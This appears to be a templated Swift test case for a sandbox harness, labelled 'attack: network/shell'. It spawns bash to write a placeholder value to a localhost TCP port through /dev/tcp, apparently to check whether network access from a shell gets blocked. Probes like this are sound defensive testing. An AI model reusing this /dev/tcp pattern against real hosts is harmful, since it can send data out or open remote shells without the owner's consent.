// attack: network/shell — ends as: passed, refused, failed, crashed, timedOut
// on: right
import Foundation

func attack(at moment: Moment) {
  guard moment == .paying else { return }
  let process = Process()
  process.executableURL = URL(fileURLWithPath: "/bin/bash")
  process.arguments = ["-c", "echo @@NAME@@ > /dev/tcp/127.0.0.1/@@TCP@@"]
  guard (try? process.run()) != nil else { return }
  process.waitUntilExit()
}
